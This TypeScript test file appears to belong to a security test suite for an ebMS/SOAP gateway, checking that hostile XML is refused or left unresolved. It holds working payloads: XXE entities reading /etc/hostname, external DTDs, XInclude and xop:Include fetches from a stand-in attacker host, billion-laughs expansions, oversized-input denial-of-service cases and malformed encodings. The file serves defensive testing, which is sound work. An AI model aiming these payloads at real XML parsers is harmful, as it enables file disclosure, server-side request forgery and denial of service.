import assert from 'node:assert/strict';
import { promises as dns } from 'node:dns';
import { readFileSync } from 'node:fs';
import { createConnection } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { NS } from '../../src/protocol/xml/index.ts';
import { MESSAGING_ID } from '../support/attacker.ts';
import type { Changes, Forged } from '../support/attacker.ts';
import { withHeader } from '../support/attacker-mime.ts';
import { collaborationXml, openTarget, ordinaryPart } from '../support/attacker-target.ts';
import type { Expected, Target } from '../support/attacker-target.ts';

/** X01 to X05: hostile XML, encodings, SOAP structure, XOP. */

let target: Target;
before(async () => {
  target = await openTarget();
});
after(() => target.gateway.stop());

const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';
const UTF16 = 'application/soap+xml; charset=utf-16';

/** A document type declaration in front of the root element. */
const withDoctype = (doctype: string): Changes => ({
  envelope: (xml) => xml.replace(DECLARATION, `${DECLARATION}${doctype}`),
});

test('the trap catches files, names and connections', async () => {
  const { trap } = target;
  trap.arm();
  try {
    assert.throws(() => readFileSync('/etc/hostname'), /trapped/);
    assert.throws(() => createConnection({ host: '192.0.2.1', port: 80 }), /trapped/);
    assert.throws(() => dns.lookup('attacker.test'), /trapped/);
    await assert.rejects(async () => await fetch('http://attacker.test/'), /trapped/);
    assert.equal(trap.caught.length, 4);
  } finally {
    trap.disarm();
  }
});

describe('X01 document types, entities, inclusions', () => {
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(
    '',
  );
  const doctypes: Readonly<Record<string, string>> = {
    'a bare DOCTYPE': '<!DOCTYPE S12:Envelope>',
    'a billion laughs': `<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`,
    'quadratic growth': `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
    'an external entity on disk': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    'an external entity on the network': '<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.test/x">]>',
    'an external subset': '<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd">',
    'a public subset': '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://attacker.test/x.dtd">',
    'a parameter entity': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/p"> %p;]>',
    'an attribute default': `<!DOCTYPE x [<!ATTLIST S12:Body wsu:Id CDATA "_forged">]>`,
    'behind a comment': '<!-- nothing --><!DOCTYPE x>',
    'behind white space': '\n \t\n<!DOCTYPE x>',
  };
  for (const [name, doctype] of Object.entries(doctypes)) {
    test(`X01 ${name}`, async () => {
      await target.refuses(target.forge(withDoctype(doctype)), { fault: 'Sender', code: 'xml/doctype' });
    });
  }

  test('X01 a DOCTYPE in UTF-16', async () => {
    const message = target.forge({
      envelope: (xml) => Buffer.from(`\ufeff${xml.replace(DECLARATION, '<!DOCTYPE x>')}`, 'utf16le'),
      mime: ([root, ...parts]) => [withHeader(root!, 'Content-Type', UTF16), ...parts],
    });
    await target.refuses(message, { fault: 'Sender', code: 'xml/doctype' });
  });

  for (const text of [
    '<!doctype x>',
    '<!ENTITY a "b">',
    '<!DOC<!-- -->TYPE x>',
    '<![INCLUDE[ <!DOCTYPE x> ]]>',
  ]) {
    test(`X01 what looks like a DOCTYPE: ${text}`, async () => {
      await target.refuses(target.forge(withDoctype(text)), { fault: 'Sender' });
    });
  }

  test('X01 XInclude in a header block for nobody is left alone', async () => {
    const include =
      '<x:Block xmlns:x="urn:example:x" xmlns:xi="http://www.w3.org/2001/XInclude">' +
      '<xi:include href="file:///etc/hostname" parse="text"/><xi:include href="http://attacker.test/x"/></x:Block>';
    await target.accepts(target.forge({ blocks: (blocks) => [...blocks, include] }));
  });

  test('X01 XInclude inside eb:Messaging is left alone', async () => {
    const include =
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"></xi:include>';
    await target.accepts(target.forge({ unit: (xml) => xml + include }));
  });

  test('X01 XInclude in place of a value', async () => {
    const message = target.forge({
      unit: (xml) =>
        xml.replace(
          /<eb:Action>Ask</,
          '<eb:Action><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"></xi:include><',
        ),
    });
    await target.refuses(message, { ebms: 'EBMS:0009' });
  });

  test('X01 xsi:schemaLocation is not followed', async () => {
    const hint = ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${NS.EB} http://attacker.test/ebms.xsd"`;
    const message = target.forge({
      messaging: (xml) => xml.replace('<eb:Messaging', `<eb:Messaging${hint}`),
    });
    await target.accepts(message);
  });

  test('X01 a style sheet instruction', async () => {
    const message = target.forge(withDoctype('<?xml-stylesheet href="http://attacker.test/x.xsl"?>'));
    await target.refuses(message, { fault: 'Sender', code: 'soap/processing-instruction' });
  });

  const document = '<!DOCTYPE evidence [<!ENTITY e SYSTEM "file:///etc/hostname">]><evidence>&e;</evidence>';
  for (const [action, encrypted] of [
    ['SignedOnly', false],
    ['Ask', true],
  ] as const) {
    test(`X01 a DOCTYPE in an XML part whose canonical form is signed (${action})`, async () => {
      const message = target.forge(
        { digested: () => Buffer.from('<evidence></evidence>') },
        {
          encrypted,
          collaboration: collaborationXml(action),
          parts: [ordinaryPart({ content: Buffer.from(document), compress: false })],
        },
      );
      await target.refuses(message, { ebms: 'EBMS:0101', code: 'wss/attachment-not-canonical' });
    });
  }

  test('X01 a DOCTYPE in a compressed part is the business of whoever reads it', async () => {
    const kept = await target.accepts(
      target.forge({}, { parts: [ordinaryPart({ content: Buffer.from(document) })] }),
    );
    assert.equal((await target.gateway.content(kept.parts[0]!)).toString(), document);
  });
});

/** An envelope with something in front of eb:Messaging. */
const withBlock = (block: string): Forged => target.forge({ blocks: (blocks) => [block, ...blocks] });

describe('X02 sizes', () => {
  const many = (count: number, make: (i: number) => string): string =>
    Array.from({ length: count }, (_, i) => make(i)).join('');
  const large: Readonly<Record<string, () => string>> = {
    'a depth of a hundred thousand': () => '<a>'.repeat(100_000) + '</a>'.repeat(100_000),
    'a depth of a hundred thousand that is never closed': () => '<a>'.repeat(100_000),
    'a depth of a hundred': () => '<a>'.repeat(100) + '</a>'.repeat(100),
    'fifty thousand attributes': () => `<a ${many(50_000, (i) => ` a${i}=""`)}/>`,
    'a hundred attributes': () => `<a ${many(100, (i) => ` a${i}=""`)}/>`,
    'thirty thousand elements': () => `<a>${'<b/>'.repeat(30_000)}</a>`,
    'a thousand namespaces in scope': () =>
      many(60, (i) => `<a${many(20, (j) => ` xmlns:p${i}-${j}="urn:${i}:${j}"`)}>`) + '</a>'.repeat(60),
  };
  for (const [name, make] of Object.entries(large)) {
    test(`X02 ${name}`, async () => {
      await target.refuses(withBlock(make()), { fault: 'Sender', code: 'xml/too-complex' });
    });
  }

  const long: Readonly<Record<string, () => string>> = {
    'a comment of 900 kB': () => `<!--${'x'.repeat(900_000)}-->`,
    'a text of 900 kB': () => `<x:a xmlns:x="urn:x">${'x'.repeat(900_000)}</x:a>`,
    'an attribute of 900 kB': () => `<x:a xmlns:x="urn:x" a="${'x'.repeat(900_000)}"/>`,
    'a name of 40 kB': () => `<x:${'n'.repeat(40_000)} xmlns:x="urn:x"/>`,
  };
  for (const [name, make] of Object.entries(long)) {
    test(`X02 ${name} in a header block for nobody costs little and harms nobody`, async () => {
      await target.accepts(withBlock(make()));
    });
  }

  test('X02 a MessageId of 900 kB', async () => {
    const message = target.forge({}, { messageId: 'x'.repeat(900_000) });
    const { failure, messageId } = await target.refuses(
      { ...message, messageId: 'nobody' },
      { ebms: 'EBMS:0009', check: 'value-length' },
    );
    assert.ok(JSON.stringify(failure).length < 5_000, 'the journal stays small');
    assert.equal(messageId, undefined);
  });

  test('X02 a million attributes and an envelope over the limit', async () => {
    const message = withBlock(`<a ${many(1_000_000, (i) => ` a${i}=""`)}/>`);
    await target.refuses(message, { ebms: 'EBMS:0007', code: 'mime/too-large' });
  });

  for (const type of [
    'application/soap+xml',
    'multipart/related; boundary="b"; type="application/soap+xml"',
  ]) {
    test(`X02 an envelope of a gibibyte as ${type} is left after the first mebibyte`, async () => {
      let sent = 0;
      const mebibyte = Buffer.alloc(1024 * 1024, 'x');
      const endless = async function* (): AsyncGenerator<Uint8Array> {
        yield Buffer.from(type.startsWith('m') ? '--b\r\nContent-Type: application/soap+xml\r\n\r\n' : '<');
        for (; sent < 1024; sent += 1) yield mebibyte;
      };
      const peak = process.resourceUsage().maxRSS;
      const answer = await target.strikeStream(type, endless());
      assert.equal(answer.error?.['errorCode'], 'EBMS:0007');
      assert.ok(answer.signed);
      assert.ok(sent <= 3, `${sent} MiB were taken`);
      assert.ok(process.resourceUsage().maxRSS - peak < 100 * 1024, 'memory stays bounded');
    });
  }
});

describe('X03 encodings', () => {
  const asUtf16 = (endian: 'LE' | 'BE'): Changes => ({
    envelope: (xml) => {
      const bytes = Buffer.from(`\ufeff${xml.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, 'utf16le');
      return endian === 'LE' ? bytes : bytes.swap16();
    },
  });
  for (const endian of ['LE', 'BE'] as const) {
    test(`X03 UTF-16${endian} with byte order mark is accepted`, async () => {
      const message = target.forge({
        ...asUtf16(endian),
        mime: ([root, ...parts]) => [withHeader(root!, 'Content-Type', UTF16), ...parts],
      });
      await target.accepts(message);
    });
  }

  test('X03 UTF-8 with byte order mark is accepted', async () => {
    await target.accepts(target.forge({ envelope: (xml) => Buffer.from(`\ufeff${xml}`) }));
  });

  test('X03 a header beyond ASCII is kept as it is', async () => {
    const conversationId = 'Führung-Łódź-☃-😀';
    const message = target.forge(asUtf16('LE'), { conversationId, parts: [] });
    const kept = await target.accepts({ ...message, contentType: UTF16 });
    assert.equal(kept.userMessage.collaborationInfo.conversationId, conversationId);
  });

  const declared = (encoding: string): Changes => ({
    envelope: (xml) => xml.replace('encoding="UTF-8"', `encoding="${encoding}"`),
  });
  const wrong: Readonly<Record<string, Changes>> = {
    'ISO-8859-1 declared': declared('ISO-8859-1'),
    'UTF-7 declared': declared('UTF-7'),
    'EBCDIC declared': declared('IBM037'),
    'UTF-16 declared over UTF-8 bytes': declared('UTF-16'),
    'bytes that are not UTF-8': {
      envelope: (xml) =>
        Buffer.concat([
          Buffer.from(xml.replace('</S12:Envelope>', '')),
          Buffer.from([0xe4]),
          Buffer.from('</S12:Envelope>'),
        ]),
    },
    'overlong UTF-8': {
      envelope: (xml) => Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(xml)]),
    },
    'UTF-16 without byte order mark': { envelope: (xml) => Buffer.from(xml, 'utf16le') },
    'UTF-16 cut inside a character': {
      envelope: (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le').subarray(0, -1),
    },
    'UTF-32': {
      envelope: (xml) => {
        const points = [0xfeff, ...Buffer.from(xml)];
        const bytes = Buffer.alloc(points.length * 4);
        points.forEach((point, i) => bytes.writeUInt32LE(point, i * 4));
        return bytes;
      },
    },
    'XML 1.1': { envelope: (xml) => xml.replace('version="1.0"', 'version="1.1"') },
  };
  for (const [name, changes] of Object.entries(wrong)) {
    test(`X03 ${name}`, async () => {
      await target.refuses(target.forge(changes), { fault: 'Sender' });
    });
  }

  for (const charset of ['iso-8859-1', 'utf-7', '"UTF-7"', 'ibm037', 'utf-16', 'utf-8x']) {
    test(`X03 the charset parameter says ${charset}, the bytes are UTF-8`, async () => {
      const type = `application/soap+xml; charset=${charset}`;
      const message = target.forge({
        mime: ([root, ...parts]) => [withHeader(root!, 'Content-Type', type), ...parts],
      });
      await target.refuses(message, { fault: 'Sender', code: 'soap/charset' });
    });
  }

  for (const charset of ['utf-8', 'UTF-8', '"utf-8"', 'us-ascii']) {
    test(`X03 the charset parameter ${charset} is accepted`, async () => {
      const message = target.forge({}, { parts: [] });
      const contentType = `application/soap+xml; charset=${charset}; action=""`;
      await target.accepts({ ...message, contentType });
    });
  }
});

describe('X04 SOAP structure', () => {
  const cases: Readonly<Record<string, readonly [Changes, Expected]>> = {
    'a SOAP 1.1 envelope': [
      { envelope: (xml) => xml.replaceAll(NS.S12, NS.S11) },
      { fault: 'VersionMismatch', code: 'soap/version-mismatch' },
    ],
    'an envelope of a version to come': [
      { envelope: (xml) => xml.replaceAll(NS.S12, 'http://www.w3.org/2033/05/soap-envelope') },
      { fault: 'VersionMismatch', code: 'soap/version-mismatch' },
    ],
    'no envelope': [{ envelope: () => '<order/>' }, { fault: 'Sender', code: 'soap/not-an-envelope' }],
    'two envelopes': [{ envelope: (xml) => xml + xml.replace(DECLARATION, '') }, { fault: 'Sender' }],
    'an envelope in an envelope': [
      { envelope: (xml) => xml.replace('</S12:Envelope>', `${xml.replace(DECLARATION, '')}</S12:Envelope>`) },
      { fault: 'Sender', code: 'soap/malformed-envelope' },
    ],
    'Header after Body': [
      {
        envelope: (xml) => xml.replace(/(<S12:Header>.*<\/S12:Header>)(<S12:Body.*<\/S12:Body>)/s, '$2$1'),
      },
      { fault: 'Sender', code: 'soap/malformed-envelope' },
    ],
    'two Headers': [
      { envelope: (xml) => xml.replace('<S12:Header>', '<S12:Header></S12:Header><S12:Header>') },
      { fault: 'Sender', code: 'soap/malformed-envelope' },
    ],
    'two Bodies': [
      { envelope: (xml) => xml.replace('</S12:Envelope>', '<S12:Body/></S12:Envelope>') },
      { fault: 'Sender', code: 'soap/malformed-envelope' },
    ],
    'no Body': [
      { envelope: (xml) => xml.replace(/<S12:Body.*<\/S12:Body>/s, '') },
      { fault: 'Sender', code: 'soap/malformed-envelope' },
    ],
    'no Header': [
      { envelope: (xml) => xml.replace(/<S12:Header>.*<\/S12:Header>/s, '') },
      { ebms: 'EBMS:0009', code: 'receive/one-messaging' },
    ],
    'nothing at all': [{ envelope: () => '' }, { fault: 'Sender' }],
    JSON: [{ envelope: () => '{"order":1}' }, { fault: 'Sender' }],
    'text behind the envelope': [{ envelope: (xml) => `${xml}order` }, { fault: 'Sender' }],
    'two Messaging headers': [
      { blocks: ([first, ...others]) => [first!, first!.replace(MESSAGING_ID, '_two'), ...others] },
      { ebms: 'EBMS:0009', code: 'receive/one-messaging' },
    ],
    'no Messaging header': [
      { blocks: ([, ...others]) => others },
      { ebms: 'EBMS:0009', code: 'receive/one-messaging' },
    ],
    'a Messaging header for somebody else': [
      { messaging: (xml) => xml.replace(' S12:must', ' S12:role="urn:example:other" S12:must') },
      { ebms: 'EBMS:0009', code: 'receive/one-messaging' },
    ],
    'an empty Messaging header': [{ unit: () => '' }, { ebms: 'EBMS:0009', check: 'message-units' }],
    'two UserMessages': [{ unit: (xml) => xml + xml }, { ebms: 'EBMS:0003' }],
    'a Messaging header of another namespace': [
      { messaging: (xml) => xml.replace(NS.EB, 'urn:example:ebms') },
      { fault: 'MustUnderstand', code: 'soap/must-understand' },
    ],
    'two Security headers': [
      { blocks: (blocks) => [...blocks, `<wsse:Security xmlns:wsse="${NS.WSSE}"/>`] },
      { ebms: 'EBMS:0103', code: 'wss/several-security-headers' },
    ],
    'the Security header for somebody else': [
      {
        blocks: ([messaging, security]) => [
          messaging!,
          security!.replace(' S12:must', ' S12:role="urn:other" S12:must'),
        ],
      },
      { ebms: 'EBMS:0103', code: 'receive/no-signature' },
    ],
    'something unknown in the Security header': [
      { security: (blocks) => [...blocks, { name: 'other', xml: '<x:Policy xmlns:x="urn:example:x"/>' }] },
      { ebms: 'EBMS:0103', code: 'wss/unknown-security-element' },
    ],
    'a header block that must be understood': [
      { blocks: (blocks) => [...blocks, '<x:Routing xmlns:x="urn:example:x" S12:mustUnderstand="true"/>'] },
      { fault: 'MustUnderstand', code: 'soap/must-understand' },
    ],
    'the same, with 1 for true and for the next node': [
      {
        blocks: (blocks) => [
          ...blocks,
          `<x:Routing xmlns:x="urn:example:x" S12:mustUnderstand="1" S12:role="${NS.S12}/role/next"/>`,
        ],
      },
      { fault: 'MustUnderstand', code: 'soap/must-understand' },
    ],
    'a mustUnderstand that is no boolean': [
      { blocks: (blocks) => [...blocks, '<x:Routing xmlns:x="urn:example:x" S12:mustUnderstand="maybe"/>'] },
      { fault: 'Sender', code: 'soap/malformed-header' },
    ],
  };
  for (const [name, [changes, expected]] of Object.entries(cases)) {
    test(`X04 ${name}`, async () => {
      await target.refuses(target.forge(changes), expected);
    });
  }

  test('X04 the fault names the block that was not understood (SOAP 1.2 part 1, 5.4.8)', async () => {
    const message = target.forge({
      blocks: (blocks) => [...blocks, '<x:Routing xmlns:x="urn:example:x" S12:mustUnderstand="true"/>'],
    });
    const { body } = await target.strike(message);
    assert.match(body, /<S12:NotUnderstood xmlns:q="urn:example:x" qname="q:Routing"/);
  });

  test('X04 the fault for SOAP 1.1 says what would be understood (SOAP 1.2 part 1, 5.4.7)', async () => {
    const { body } = await target.strike(target.forge({ envelope: (xml) => xml.replaceAll(NS.S12, NS.S11) }));
    assert.match(body, /<S12:Upgrade><S12:SupportedEnvelope qname="S12:Envelope"/);
  });

  test('X04 header blocks for others, and those that need not be understood, are left alone', async () => {
    const others =
      '<x:Hop xmlns:x="urn:example:x" S12:mustUnderstand="true" S12:role="urn:example:hop"/>' +
      '<x:Note xmlns:x="urn:example:x" S12:mustUnderstand="false"/><x:Hint xmlns:x="urn:example:x"/>';
    await target.accepts(target.forge({ blocks: (blocks) => [...blocks, others] }));
  });

  const types = [
    'text/xml; charset=utf-8',
    'application/json',
    'multipart/mixed; boundary=b',
    'image/png',
    '',
    'x',
  ];
  for (const contentType of types) {
    test(`X04 an envelope that came as "${contentType}"`, async () => {
      const message = { ...target.forge({}, { parts: [] }), contentType };
      await target.refuses(message, { ebms: 'EBMS:0007' });
    });
  }

  test('X04 no Content-Type', async () => {
    const answer = await target.strikeStream(undefined, (async function* () {})());
    assert.equal(answer.error?.['errorCode'], 'EBMS:0007');
  });
});

describe('X05 xop:Include is never resolved', () => {
  const include = (href: string): string =>
    `<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="${href}"></xop:Include>`;
  const hrefs = ['cid:evidence@attacker.test', 'http://attacker.test/x', 'file:///etc/hostname'];

  for (const href of hrefs) {
    test(`X05 in a header block for nobody: ${href}`, async () => {
      const block = `<x:Block xmlns:x="urn:example:x">${include(href)}</x:Block>`;
      const xop = 'application/xop+xml; charset=UTF-8; type="application/soap+xml"';
      const message = target.forge({
        blocks: (blocks) => [...blocks, block],
        mime: ([root, ...parts]) => [withHeader(root!, 'Content-Type', xop), ...parts],
      });
      await target.accepts(message);
    });

    test(`X05 in the Body: ${href}`, async () => {
      const message = target.forge({
        body: (xml) => xml.replace('</S12:Body>', `${include(href)}</S12:Body>`),
      });
      await target.refuses(message, { ebms: 'EBMS:0103', code: 'wss/body-not-empty' });
    });

    test(`X05 as a header value: ${href}`, async () => {
      const message = target.forge({ unit: (xml) => xml.replace('>Ask<', `>${include(href)}<`) });
      await target.refuses(message, { ebms: 'EBMS:0009' });
    });

    test(`X05 as a digest: ${href}`, async () => {
      const message = target.forge({
        signedInfo: (xml) => xml.replace(/(<ds:DigestValue>)[^<]*/, `$1${include(href)}`),
      });
      await target.refuses(message, { ebms: 'EBMS:0101', code: 'wss/malformed-signature' });
    });

    test(`X05 as a security token: ${href}`, async () => {
      const message = target.forge({ signerToken: (xml) => xml.replace(/>[^<]+</, `>${include(href)}<`) });
      await target.refuses(message, { ebms: 'EBMS:0101', code: 'wss/malformed-signature' });
    });

    test(`X05 as an encrypted key: ${href}`, async () => {
      const message = target.forge({
        encryptedKey: (xml) => xml.replace(/(<xenc:CipherValue>)[^<]*/, `$1${include(href)}`),
      });
      await target.refuses(message, { ebms: 'EBMS:0102' });
    });
  }
});
